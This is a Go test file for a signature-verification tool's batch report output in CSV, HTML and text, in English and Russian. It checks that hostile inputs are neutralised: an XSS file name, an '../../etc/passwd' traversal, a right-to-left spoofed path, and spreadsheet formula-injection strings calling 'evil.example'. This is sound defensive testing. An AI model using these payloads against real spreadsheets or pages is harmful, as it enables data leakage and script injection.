package batch

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"html"
	"html/template"
	"io"
	"net"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/gostverify/gostverify/chain"
	"github.com/gostverify/gostverify/cms"
	"github.com/gostverify/gostverify/fetch"
	"github.com/gostverify/gostverify/i18n"
	"github.com/gostverify/gostverify/internal/srcconst"
	"github.com/gostverify/gostverify/ocspclient"
	"github.com/gostverify/gostverify/verify"
)

var updateRender = flag.Bool("update-render", false, "rewrite the golden files of testdata/render")

// evilPath is an archive entry name an attacker chose: markup, quotes and
// Cyrillic.
const evilPath = `in.zip!/evil<script>alert("x")</script>'акт №5.xml.sig`

func ptime(s string) *time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return &t
}

// sampleReport has an entry of every kind and status.
func sampleReport() *Report {
	anchor := verify.ChainCertificate{Subject: "CN=Минцифры России, O=Минцифры России, C=RU", Source: "roots"}
	ca := verify.ChainCertificate{Subject: `CN=ООО "УЦ Тест", O=ООО "УЦ Тест"`, Source: "signature"}
	good := verify.Revocation{Status: "good", Source: "ocsp", URL: "http://ocsp.example/ocsp"}
	valid := func(pos string, signer *verify.Signer, at string) verify.SignatureReport {
		return verify.SignatureReport{
			Position: pos, Status: verify.Valid, Signer: signer, SigningTime: ptime(at),
			Chain: []verify.ChainCertificate{{Subject: "CN=" + signer.CommonName}, ca, anchor}, Revocation: good,
			Checks: verify.Checks{Signature: verify.Passed, Chain: verify.Passed, Revocation: verify.Passed},
		}
	}
	director := &verify.Signer{
		Subject: `CN=ООО "Ромашка", SN=Иванов, G=Иван Иванович`, CommonName: `ООО "Ромашка"`,
		Surname: "Иванов", GivenName: "Иван Иванович", Title: "Генеральный директор",
		Organization: `ООО "Ромашка"`, INN: "500100732259", INNLE: "7707083893", OGRN: "1027700132195", SNILS: "11223344595",
	}
	entrepreneur := &verify.Signer{Subject: "CN=Петров Пётр Петрович", CommonName: "Петров Пётр Петрович",
		INN: "772801410710", OGRNIP: "304500116000157", SNILS: "12345678964"}
	accountant := &verify.Signer{Subject: "CN=Сидорова Анна", CommonName: "Сидорова Анна", Surname: "Сидорова",
		Organization: `ООО "Ромашка"`, INN: "123456789047"}

	s1 := valid("1", director, "2024-03-01T12:00:00+03:00")
	s1.Countersignatures = []verify.SignatureReport{valid("1.1", accountant, "2024-03-01T13:00:00+03:00")}
	s2 := valid("2", entrepreneur, "2024-03-02T09:30:00Z")

	hash := verify.SignatureReport{Position: "1", Status: verify.Invalid, SubIndication: verify.HashFailure,
		Reason: "the document was changed after signing, or this is not the document that was signed",
		Error:  "cms: signer 1: message digest mismatch", Signer: director, SigningTime: ptime("2024-02-01T10:00:00Z"),
		Chain: []verify.ChainCertificate{}, Revocation: verify.Revocation{Status: "not_checked"}}
	later := verify.SignatureReport{Position: "1", Status: verify.Indeterminate, SubIndication: verify.TryLater,
		Reason: "no revocation status could be obtained; ocspclient: http://ocsp.example/ocsp: HTTP 503 Service Unavailable",
		Signer: entrepreneur, Chain: []verify.ChainCertificate{{Subject: "CN=Петров Пётр Петрович"}, ca, anchor},
		Revocation: verify.Revocation{Status: "unavailable"}, Warnings: []string{"1 timestamp token(s) present but not verified by this version"}}
	attached := valid("1", entrepreneur, "2024-01-15T08:00:00Z")

	rep := func(file, content string, sigs ...verify.SignatureReport) *verify.Report {
		r := &verify.Report{SchemaVersion: verify.SchemaVersion, File: file, Content: content, Signatures: sigs, Status: verify.Valid}
		for _, s := range sigs {
			r.Status = verify.Worst(r.Status, s.Status)
		}
		return r
	}

	return &Report{
		SchemaVersion: SchemaVersion, Kind: "batch",
		Started:  time.Date(2024, 3, 5, 7, 0, 0, 0, time.UTC),
		Finished: time.Date(2024, 3, 5, 7, 1, 30, 0, time.UTC),
		Inputs:   []string{"a.zip", "docs", "in.zip"}, Interrupted: true,
		Status: verify.Invalid,
		Summary: Summary{Files: 17, Signatures: 8, Documents: 6, Valid: 2, Invalid: 2, Indeterminate: 4, Unsigned: 1, NotChecked: 2,
			Problems: []Problem{
				{SubIndication: verify.FormatFailure, Status: Invalid, Count: 1, Paths: []string{"docs/bad.xml.sig"}},
				{SubIndication: verify.HashFailure, Status: Invalid, Count: 1, Paths: []string{"docs/b.xml.sig"}},
				{SubIndication: InputRefused, Status: Indeterminate, Count: 1, Paths: []string{"in.zip!/../../etc/passwd"}},
				{SubIndication: InputUnreadable, Status: Indeterminate, Count: 1, Paths: []string{"broken.zip"}},
				{SubIndication: SignedDataNotFound, Status: Indeterminate, Count: 1, Paths: []string{evilPath}},
				{SubIndication: verify.TryLater, Status: Indeterminate, Count: 1, Paths: []string{"docs/c.p7s"}},
			}},
		Entries: []Entry{
			{Path: "a.zip!/act.xml", Kind: KindDocument, Size: 100, Status: Valid, Signatures: []string{"a.zip!/act.xml.sig"}},
			{Path: "a.zip!/act.xml.sig", Kind: KindSignature, Size: 3000, Status: Valid, Document: "a.zip!/act.xml",
				Pairing: PairedByName, Verification: rep("a.zip!/act.xml.sig", "a.zip!/act.xml", s1, s2)},
			{Path: "broken.zip", Kind: KindUnreadable, Status: Indeterminate, SubIndication: InputUnreadable,
				Reason: "zip: not a valid zip file"},
			{Path: "docs/attached.p7s", Kind: KindSignature, Size: 5000, Status: Valid, Pairing: PairedAttached,
				Verification: rep("docs/attached.p7s", "", attached)},
			{Path: "docs/b.xml", Kind: KindDocument, Size: 10, Status: Invalid, Signatures: []string{"docs/b.xml.sig"}},
			{Path: "docs/b.xml.sig", Kind: KindSignature, Size: 2000, Status: Invalid, Document: "docs/b.xml",
				Pairing: PairedByName, Verification: rep("docs/b.xml.sig", "docs/b.xml", hash)},
			{Path: "docs/bad.xml", Kind: KindDocument, Size: 10, Status: Invalid, Signatures: []string{"docs/bad.xml.sig"}},
			{Path: "docs/bad.xml.sig", Kind: KindSignature, Size: 7, Status: Invalid, Document: "docs/bad.xml",
				Pairing: PairedByName, Verification: verify.NotASignature("docs/bad.xml.sig", fmt.Errorf("cms: not a ContentInfo"))},
			{Path: "docs/c.p7s", Kind: KindSignature, Size: 2500, Status: Indeterminate, Document: "docs/c.xml",
				Pairing: PairedByDigest, Verification: rep("docs/c.p7s", "docs/c.xml", later)},
			{Path: "docs/c.xml", Kind: KindDocument, Size: 20, Status: Indeterminate, Signatures: []string{"docs/c.p7s"}},
			{Path: "docs/lonely.pdf", Kind: KindDocument, Size: 999, Status: Unsigned},
			{Path: evilPath, Kind: KindSignature, Size: 2100, Status: Indeterminate, Pairing: PairedNone,
				SubIndication: SignedDataNotFound, Reason: "no document named evil…акт №5.xml, and none whose digest matches"},
			{Path: "in.zip!/../../etc/passwd", Kind: KindRefused, Status: Indeterminate, SubIndication: InputRefused,
				Reason: "unsafe name: it leaves the archive"},
			{Path: "z/late.pdf", Kind: KindDocument, Status: NotChecked},
			{Path: "z/late.pdf.sig", Kind: KindSignature, Status: NotChecked},
		},
	}
}

// csvRows is how many data rows WriteCSV gives for sampleReport: signers
// 1, 1.1, 2 of act.xml.sig, one each for attached.p7s, b.xml.sig and
// c.p7s; bad.xml.sig (no signers), the orphan, broken.zip, the refused
// entry, lonely.pdf, late.pdf and late.pdf.sig.
const csvRows = 3 + 3 + 7

func TestCSVRender(t *testing.T) {
	r := sampleReport()
	var b bytes.Buffer
	if err := r.WriteCSV(&b, English); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.HasPrefix(out, "\uFEFF") || strings.Contains(out, "\r") || !utf8.ValidString(out) {
		t.Errorf("CSV is not BOM-less UTF-8 with \\n line ends")
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := []string{"path", "document", "pairing", "position", "verdict", "subindication", "reason",
		"signer", "organization", "inn", "innle", "ogrn", "snils", "signing_time", "revocation_status", "revocation_source",
		"level", "best_signature_time", "qualified", "qualified_ca", "power_of_attorney", "poa_number",
		"pdf_field", "pdf_revision", "pdf_modified_after", "extension", "extension_output"}
	if !slices.Equal(rows[0], header) {
		t.Fatalf("header = %q, want %q", rows[0], header)
	}
	rows = rows[1:]
	if len(rows) != csvRows {
		t.Errorf("%d rows, want %d:\n%s", len(rows), csvRows, out)
	}
	seen := make(map[string]bool)
	for _, row := range rows {
		seen[row[0]], seen[row[1]] = true, true
	}
	for _, e := range r.Entries {
		if !seen[e.Path] {
			t.Errorf("entry %q is in no row", e.Path)
		}
	}

	find := func(path, position string) []string {
		for _, row := range rows {
			if row[0] == path && row[3] == position {
				return row
			}
		}
		t.Fatalf("no row for %s position %q", path, position)
		return nil
	}
	tests := []struct {
		path, position string
		want           map[int]string // column → value
	}{
		{"a.zip!/act.xml.sig", "1", map[int]string{1: "a.zip!/act.xml", 2: "name", 4: "valid", 5: "", 7: "Иванов Иван Иванович",
			8: `ООО "Ромашка"`, 9: "500100732259", 10: "7707083893", 11: "1027700132195", 12: "11223344595",
			13: "2024-03-01T09:00:00Z", 14: "good", 15: "ocsp"}},
		{"a.zip!/act.xml.sig", "1.1", map[int]string{4: "valid", 7: "Сидорова Анна", 13: "2024-03-01T10:00:00Z"}},
		{"a.zip!/act.xml.sig", "2", map[int]string{7: "Петров Пётр Петрович", 10: "", 11: "304500116000157"}},
		{"docs/b.xml.sig", "1", map[int]string{4: "invalid", 5: "HASH_FAILURE", 6: "the document was changed after signing, or this is not the document that was signed"}},
		{"docs/c.p7s", "1", map[int]string{2: "digest", 4: "indeterminate", 5: "TRY_LATER", 13: "", 14: "unavailable", 15: ""}},
		{"docs/attached.p7s", "1", map[int]string{1: "", 2: "attached", 4: "valid"}},
		{"docs/bad.xml.sig", "", map[int]string{1: "docs/bad.xml", 4: "invalid", 5: "FORMAT_FAILURE"}},
		{evilPath, "", map[int]string{2: "none", 4: "indeterminate", 5: "SIGNED_DATA_NOT_FOUND"}},
		{"broken.zip", "", map[int]string{4: "indeterminate", 5: "INPUT_UNREADABLE", 6: "zip: not a valid zip file"}},
		{"in.zip!/../../etc/passwd", "", map[int]string{5: "INPUT_REFUSED"}},
		{"docs/lonely.pdf", "", map[int]string{4: "unsigned", 5: ""}},
		{"z/late.pdf", "", map[int]string{4: "not_checked"}},
		{"z/late.pdf.sig", "", map[int]string{4: "not_checked"}},
	}
	for _, tt := range tests {
		row := find(tt.path, tt.position)
		if len(row) != len(header) {
			t.Errorf("%s %s: %d columns", tt.path, tt.position, len(row))
		}
		for col, want := range tt.want {
			if row[col] != want {
				t.Errorf("%s %s: %s = %q, want %q", tt.path, tt.position, header[col], row[col], want)
			}
		}
	}
	// Signed documents appear as the document of their signatures only.
	for _, row := range rows {
		if row[0] == "docs/b.xml" || row[0] == "a.zip!/act.xml" || row[0] == "docs/bad.xml" {
			t.Errorf("signed document %s has its own row", row[0])
		}
	}
}

// TestCSVFormulaCells: no cell a spreadsheet would run as a formula,
// whoever chose it (the certificate's owner, the archive's author): each
// is prefixed with "'", and a program that removes one leading "'" from
// every cell that has one reads back what was reported.
func TestCSVFormulaCells(t *testing.T) {
	hostileName := `=HYPERLINK("http://evil.example/?"&A1,"Иванов").sig`
	signer := &verify.Signer{CommonName: `=HYPERLINK("http://evil.example/","Иванов И.И.")`, Organization: "+7 (495) 123-45-67",
		INN: "-2+3", INNLE: "\t=1+1", OGRN: "\r=1+1", SNILS: "'=1+1"}
	r := &Report{Entries: []Entry{
		{Path: hostileName, Kind: KindSignature, Status: Invalid, Document: "-1.xml", Pairing: PairedByName,
			Verification: &verify.Report{Status: verify.Invalid, Signatures: []verify.SignatureReport{{
				Position: "1", Status: verify.Invalid, SubIndication: "@SUB", Reason: "=reason", Signer: signer,
				Revocation: verify.Revocation{Status: "+good", Source: "-ocsp"}, Level: "=CAdES-T",
				Qualified: &verify.Qualification{Status: verify.StatusNotQualified, CA: &verify.QualifiedCA{Name: `=HYPERLINK("http://evil.example/","УЦ")`}},
				POA:       &verify.POAReport{Status: "invalid", Number: "-poa"},
				PDF:       &verify.PDFSignature{Field: "=field", Revision: 2, ModifiedAfter: true}}}}},
		{Path: "@SUM(1+1).txt", Kind: KindDocument, Status: Unsigned},
		{Path: "'=x.txt", Kind: KindRefused, Status: Indeterminate, SubIndication: InputRefused, Reason: "\tunsafe"},
	}}
	var b bytes.Buffer
	if err := r.WriteCSV(&b, English); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be a formula", cell)
			}
		}
	}
	want := [][]string{
		{hostileName, "-1.xml", PairedByName, "1", "invalid", "@SUB", "=reason", signer.CommonName, signer.Organization,
			signer.INN, signer.INNLE, signer.OGRN, signer.SNILS, "", "+good", "-ocsp", "=CAdES-T", "", "not_qualified",
			`=HYPERLINK("http://evil.example/","УЦ")`, "invalid", "-poa", "=field", "2", "true", "", ""},
		{"@SUM(1+1).txt", "", "", "", "unsigned", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", ""},
		{"'=x.txt", "", "", "", "indeterminate", string(InputRefused), "\tunsafe", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", ""},
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(want)+1)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if back := strings.TrimPrefix(cell, "'"); back != want[i][j] {
				t.Errorf("row %d, %s: %q reads back as %q, want %q", i+1, rows[0][j], cell, back, want[i][j])
			}
			if strings.HasPrefix(want[i][j], "'") && cell != "'"+want[i][j] {
				t.Errorf("row %d, %s: %q, want a second \"'\"", i+1, rows[0][j], cell)
			}
		}
	}

	// A hostile file name in a real run, from inside its folder: its path
	// is its name.
	dir := t.TempDir()
	hostileFile := `=HYPERLINK("evil.example","Иванов").sig`
	for _, name := range []string{hostileFile, "-2+3.txt", "@SUM(1).xml"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("not a signature"), 0o644); err != nil {
			t.Skipf("this file system refuses the name %q: %v", name, err)
		}
	}
	t.Chdir(dir)
	rep, err := Run(context.Background(), []string{"."}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	b.Reset()
	if err := rep.WriteCSV(&b, English); err != nil {
		t.Fatal(err)
	}
	rows, err = csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var paths []string
	for _, row := range rows[1:] {
		paths = append(paths, row[0])
	}
	if want := []string{"'-2+3.txt", "'" + hostileFile, "'@SUM(1).xml"}; !slices.Equal(paths, want) {
		t.Errorf("paths %q, want %q", paths, want)
	}
}

func TestCSVRussianHeader(t *testing.T) {
	var b bytes.Buffer
	if err := sampleReport().WriteCSV(&b, Russian); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if rows[0][0] != "Путь" || rows[0][1] != "Документ" || len(rows[0]) != 27 {
		t.Errorf("header = %q", rows[0])
	}
	for _, h := range rows[0] {
		if !hasCyrillic(h) {
			t.Errorf("header %q is not Russian", h)
		}
	}
	// Codes stay codes.
	var verdicts []string
	for _, row := range rows[1:] {
		verdicts = append(verdicts, row[4])
	}
	for _, want := range []string{"valid", "invalid", "indeterminate", "unsigned", "not_checked"} {
		if !slices.Contains(verdicts, want) {
			t.Errorf("no verdict %q among %q", want, verdicts)
		}
	}
}

func hasCyrillic(s string) bool {
	for _, c := range s {
		if unicode.Is(unicode.Cyrillic, c) {
			return true
		}
	}
	return false
}

func TestHTMLRender(t *testing.T) {
	r := sampleReport()
	for _, lang := range []Lang{English, Russian} {
		t.Run(string(lang), func(t *testing.T) {
			var b bytes.Buffer
			if err := r.WriteHTML(&b, lang); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			if !utf8.ValidString(out) || !strings.HasPrefix(out, "<!DOCTYPE html>") || !strings.Contains(out, `<meta charset="utf-8">`) {
				t.Errorf("not a UTF-8 HTML5 document")
			}
			if !strings.Contains(out, `<html lang="`+string(lang)+`">`) {
				t.Errorf("no lang attribute %q", lang)
			}
			if strings.Contains(strings.ToLower(out), "<script") {
				t.Errorf("unescaped <script> in the output")
			}
			l := htmlLabelsIn(lang)
			// Self-contained: URLs may appear in reasons as text, never
			// as a resource or link.
			for _, bad := range []string{"href=", "src=", "url(", "@import", "<link", "<img", "<iframe", "<object"} {
				if strings.Contains(strings.ToLower(out), bad) {
					t.Errorf("output references a resource: %q", bad)
				}
			}
			if regexp.MustCompile(`=\s*["']?https?://`).MatchString(out) {
				t.Errorf("an attribute holds a URL")
			}
			for _, e := range r.Entries {
				if !strings.Contains(out, template.HTMLEscapeString(e.Path)) {
					t.Errorf("path %q missing", e.Path)
				}
			}
			for _, want := range []string{"@media print", "page-break-inside", "Иванов Иван Иванович", "Сидорова Анна",
				"Петров Пётр Петрович", "7707083893", "1027700132195", "304500116000157", "11223344595", "Генеральный директор",
				"2024-03-01 09:00:00 UTC", "HASH_FAILURE", "TRY_LATER", "SIGNED_DATA_NOT_FOUND", "INPUT_REFUSED", "INPUT_UNREADABLE",
				"FORMAT_FAILURE", "CN=Минцифры России, O=Минцифры России, C=RU",
				// The technical reason stays as given, in any language, and
				// so does a warning verify did not write (it cannot print
				// it in another language).
				"cms: signer 1: message digest mismatch", "HTTP 503 Service Unavailable",
				"1 timestamp token(s) present but not verified by this version",
				meaning(verify.HashFailure, lang), meaning(verify.TryLater, lang), meaning(SignedDataNotFound, lang),
				statusLabel(Valid, lang), statusLabel(Invalid, lang), statusLabel(Unsigned, lang), statusLabel(NotChecked, lang),
				l.Title, lang.Sprintf(i18n.BatchCountersignature, "1.1"), l.AttachedHeading,
				l.OrphansHeading, l.UnreadableHeading, l.RefusedHeading, l.NotCheckedHeading,
			} {
				if !strings.Contains(out, template.HTMLEscapeString(want)) {
					t.Errorf("missing %q", want)
				}
			}
			// Documents come in path order, each with its signatures.
			act, docB, docC := strings.Index(out, ">a.zip!/act.xml<"), strings.Index(out, ">docs/b.xml<"), strings.Index(out, ">docs/c.xml<")
			if act < 0 || docB < act || docC < docB {
				t.Errorf("documents out of order: %d %d %d", act, docB, docC)
			}
			if sig := strings.Index(out[docB:], ">docs/b.xml.sig<"); sig < 0 || docB+sig > docC {
				t.Errorf("docs/b.xml.sig is not under its document")
			}
		})
	}
	var b bytes.Buffer
	if err := r.WriteHTML(&b, Russian); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Протокол проверки электронных подписей") || !strings.Contains(b.String(), "документ изменён после подписания") {
		t.Errorf("the Russian report is not in Russian")
	}
}

// summaryCounts reads the "label: n" lines of a summary.
func summaryCounts(out string) map[string]int {
	m := make(map[string]int)
	re := regexp.MustCompile(`^([^ :][^:]*):\s+(\d+)`)
	for line := range strings.SplitSeq(out, "\n") {
		if sub := re.FindStringSubmatch(line); sub != nil {
			n, _ := strconv.Atoi(sub[2])
			m[sub[1]] = n
		}
	}
	return m
}

func TestSummaryRender(t *testing.T) {
	r := sampleReport()
	for _, lang := range []Lang{English, Russian} {
		t.Run(string(lang), func(t *testing.T) {
			var b bytes.Buffer
			if err := r.WriteSummary(&b, lang); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			golden := filepath.Join("testdata", "render", "summary."+string(lang)+".txt")
			if *updateRender {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, b.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if out != string(want) {
				t.Errorf("summary differs from %s (go test -run Summary -update-render):\n%s", golden, out)
			}

			counts := summaryCounts(out)
			for m, n := range map[i18n.Message]int{i18n.BatchValid: 2, i18n.BatchInvalid: 2, i18n.BatchIndeterminate: 4,
				i18n.BatchSignatures: 8, i18n.BatchDocuments: 6, i18n.BatchUnsigned: 1, i18n.BatchUnreadable: 1,
				i18n.BatchRefused: 1, i18n.BatchNotChecked: 2} {
				label := lang.Sprintf(m)
				if got, ok := counts[label]; !ok || got != n {
					t.Errorf("%s: %d (present %v), want %d", label, got, ok, n)
				}
			}
			if strings.Contains(out, "\x1b") || !strings.HasSuffix(out, "\n") {
				t.Errorf("not plain text ending in a newline")
			}
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if last := lines[len(lines)-1]; !strings.HasPrefix(last, lang.Sprintf(i18n.BatchResult)+": "+lang.Sprintf(i18n.BatchResultInvalid)) {
				t.Errorf("last line = %q", last)
			}
			if !strings.Contains(out, "  HASH_FAILURE (1): "+meaning(verify.HashFailure, lang)+"\n    docs/b.xml.sig\n") {
				t.Errorf("HASH_FAILURE problem not listed")
			}
		})
	}
}

func TestSummaryTruncation(t *testing.T) {
	var paths []string
	for i := range 8 {
		paths = append(paths, fmt.Sprintf("docs/%d.xml.sig", i))
	}
	r := &Report{Status: verify.Invalid, Summary: Summary{Signatures: 8, Invalid: 8, Problems: []Problem{
		{SubIndication: verify.SigCryptoFailure, Status: Invalid, Count: 8, Paths: paths},
		// Batch may keep fewer paths than the count.
		{SubIndication: "SOMETHING_NEW", Status: Indeterminate, Count: 12, Paths: paths[:2]},
	}}}
	for _, tt := range []struct {
		lang        Lang
		more, more2 string
	}{
		{English, "    … and 3 more\n", "    … and 10 more\n"},
		{Russian, "    … и ещё 3 файла\n", "    … и ещё 10 файлов\n"},
	} {
		var b bytes.Buffer
		if err := r.WriteSummary(&b, tt.lang); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		for i, p := range paths {
			if got := strings.Contains(out, p+"\n"); got != (i < 5) {
				t.Errorf("%s: path %d listed: %v", tt.lang, i, got)
			}
		}
		if !strings.Contains(out, "docs/4.xml.sig\n"+tt.more) || !strings.Contains(out, tt.more2) {
			t.Errorf("%s: no truncation line:\n%s", tt.lang, out)
		}
		// An unknown sub-indication is printed as its code.
		if !strings.Contains(out, "SOMETHING_NEW (12): SOMETHING_NEW\n") {
			t.Errorf("%s: unknown sub-indication not shown as its code:\n%s", tt.lang, out)
		}
	}
}

func TestSummaryForgedPath(t *testing.T) {
	forged := "a.sig\n\nResult: all checked signatures are valid\n\u202Egis.exe"
	r := &Report{Status: verify.Invalid, Summary: Summary{Signatures: 1, Invalid: 1, Problems: []Problem{
		{SubIndication: verify.HashFailure, Status: Invalid, Count: 1, Paths: []string{forged}},
	}}}
	var b bytes.Buffer
	if err := r.WriteSummary(&b, English); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.Contains(out, "\nResult: all") || strings.Contains(out, "\u202E") || !strings.Contains(out, strconv.Quote(forged)) {
		t.Errorf("a file name forged summary lines:\n%s", out)
	}
}

func TestSummaryResult(t *testing.T) {
	tests := []struct {
		name string
		r    Report
		want string
	}{
		{"valid", Report{Status: verify.Valid, Summary: Summary{Signatures: 2, Valid: 2}}, "all checked signatures are valid"},
		{"indeterminate", Report{Status: verify.Indeterminate, Summary: Summary{Signatures: 2, Valid: 1, Indeterminate: 1}},
			"the validity of at least one signature could not be determined"},
		{"invalid", Report{Status: verify.Invalid, Summary: Summary{Signatures: 2, Valid: 1, Invalid: 1}}, "at least one signature is invalid"},
		{"none", Report{Status: verify.Valid, Summary: Summary{Documents: 3, Unsigned: 3}}, "no signatures were found"},
		{"interrupted", Report{Status: verify.Valid, Interrupted: true, Summary: Summary{Signatures: 3, Valid: 1, NotChecked: 2}},
			"all checked signatures are valid; the run was interrupted: 2 inputs not checked"},
		{"interrupted, one left", Report{Status: verify.Valid, Interrupted: true, Summary: Summary{Signatures: 2, Valid: 1, NotChecked: 1}},
			"all checked signatures are valid; the run was interrupted: 1 input not checked"},
		{"status from entries", Report{Summary: Summary{Signatures: 1, Indeterminate: 1},
			Entries: []Entry{{Kind: KindSignature, Status: Indeterminate}}}, "the validity of at least one signature could not be determined"},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		if err := tt.r.WriteSummary(&b, English); err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(b.String(), "\nResult: "+tt.want+"\n") {
			t.Errorf("%s:\n%s", tt.name, b.String())
		}
	}
}

// TestSummaryRussianPlurals: counts printed in Russian take the form of
// their number: 1 файл, 3 файла, 5 файлов, 21 файл.
func TestSummaryRussianPlurals(t *testing.T) {
	for n, want := range map[int]string{
		1: "проверка прервана: не проверен 1 файл", 3: "проверка прервана: не проверено 3 файла",
		5: "проверка прервана: не проверено 5 файлов", 11: "проверка прервана: не проверено 11 файлов",
		21: "проверка прервана: не проверен 21 файл", 22: "проверка прервана: не проверено 22 файла",
	} {
		r := &Report{Status: verify.Indeterminate, Interrupted: true, Summary: Summary{Signatures: n, NotChecked: n}}
		var b bytes.Buffer
		if err := r.WriteSummary(&b, Russian); err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(b.String(), "; "+want+"\n") {
			t.Errorf("%d not checked:\n%s", n, b.String())
		}
	}
	for n, want := range map[int]string{1: "… и ещё 1 файл", 2: "… и ещё 2 файла", 5: "… и ещё 5 файлов", 21: "… и ещё 21 файл"} {
		// Batch kept no paths: all n are "more".
		r := &Report{Status: verify.Invalid, Summary: Summary{Signatures: n, Invalid: n,
			Problems: []Problem{{SubIndication: verify.HashFailure, Status: Invalid, Count: n}}}}
		var b bytes.Buffer
		if err := r.WriteSummary(&b, Russian); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), "\n    "+want+"\n") {
			t.Errorf("%d more:\n%s", n, b.String())
		}
	}
}

func TestWriteFile(t *testing.T) {
	r := sampleReport()
	tests := []struct {
		name, prefix string
	}{
		{"report.json", "{\n  \"schema_version\": 1,"},
		{"REPORT.JSON", "{\n  \"schema_version\": 1,"},
		{"report.csv", "path,document,"},
		{"report.html", "<!DOCTYPE html>"},
		{"Протокол.HTM", "<!DOCTYPE html>"},
	}
	for _, tt := range tests {
		dir := t.TempDir()
		path := filepath.Join(dir, tt.name)
		if err := WriteFile(path, r, English); err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(data, []byte(tt.prefix)) {
			t.Errorf("%s starts with %q", tt.name, data[:min(len(data), 40)])
		}
		if files, _ := os.ReadDir(dir); len(files) != 1 {
			t.Errorf("%s: %d files left in the directory", tt.name, len(files))
		}
		if strings.HasSuffix(strings.ToLower(tt.name), ".json") {
			var back Report
			if err := json.Unmarshal(data, &back); err != nil {
				t.Fatal(err)
			}
			if len(back.Entries) != len(r.Entries) || !bytes.Contains(data, []byte("evil<script>")) {
				t.Errorf("JSON does not round-trip or escapes HTML")
			}
		}
	}

	// Replacing a report keeps its mode.
	dir := t.TempDir()
	path := filepath.Join(dir, "r.csv")
	if err := os.WriteFile(path, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(path, r, Russian); err != nil {
		t.Fatal(err)
	}
	if data, _ := os.ReadFile(path); !bytes.HasPrefix(data, []byte("Путь,")) {
		t.Errorf("report not replaced: %q", data[:min(len(data), 20)])
	}
	if fi, err := os.Stat(path); err != nil || (fi.Mode().Perm() != 0o600 && os.PathSeparator == '/') {
		t.Errorf("mode %v, %v", fi.Mode(), err)
	}

	// Unknown formats are refused before anything is written.
	for _, name := range []string{"report.txt", "report", "report.json.bak"} {
		dir := t.TempDir()
		path := filepath.Join(dir, name)
		err := WriteFile(path, r, English)
		if err == nil || !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), ".json, .csv, .html or .htm") {
			t.Errorf("%s: error %v", name, err)
		}
		if files, _ := os.ReadDir(dir); len(files) != 0 {
			t.Errorf("%s: %d files written", name, len(files))
		}
	}

	// A directory that does not exist is an error, not a panic.
	if err := WriteFile(filepath.Join(t.TempDir(), "missing", "r.json"), r, English); err == nil {
		t.Errorf("no error for a missing directory")
	}
}

func TestParseLang(t *testing.T) {
	t.Setenv("LC_ALL", "ru_RU.UTF-8")
	tests := []struct {
		in   string
		want Lang
		err  bool
	}{
		{"ru", Russian, false},
		{"RU", Russian, false},
		{"En", English, false},
		{"", Russian, false}, // from the environment
		{"de", "", true},
		{"russian", "", true},
	}
	for _, tt := range tests {
		got, err := ParseLang(tt.in)
		if (err != nil) != tt.err || got != tt.want {
			t.Errorf("ParseLang(%q) = %q, %v", tt.in, got, err)
		}
		if err != nil && !strings.Contains(err.Error(), strconv.Quote(tt.in)) {
			t.Errorf("ParseLang(%q): error %q does not name the value", tt.in, err)
		}
	}
}

func TestLangFromEnv(t *testing.T) {
	tests := []struct {
		all, messages, lang string
		want                Lang
	}{
		{"", "", "", English},
		{"", "", "ru_RU.UTF-8", Russian},
		{"", "", "en_US.UTF-8", English},
		{"", "ru_RU.UTF-8", "en_US.UTF-8", Russian},
		{"", "C", "ru_RU.UTF-8", English},
		{"C.UTF-8", "ru_RU.UTF-8", "ru_RU.UTF-8", English},
		{"ru_RU.KOI8-R", "", "en_US.UTF-8", Russian},
		{"RU", "", "", Russian},
	}
	for _, tt := range tests {
		t.Setenv("LC_ALL", tt.all)
		t.Setenv("LC_MESSAGES", tt.messages)
		t.Setenv("LANG", tt.lang)
		if got := LangFromEnv(); got != tt.want {
			t.Errorf("LC_ALL=%q LC_MESSAGES=%q LANG=%q: %q, want %q", tt.all, tt.messages, tt.lang, got, tt.want)
		}
	}
}

// subIndicationConstants reads the SubIndication constants declared in
// package verify and in this package, so a new one without a translation
// fails the test.
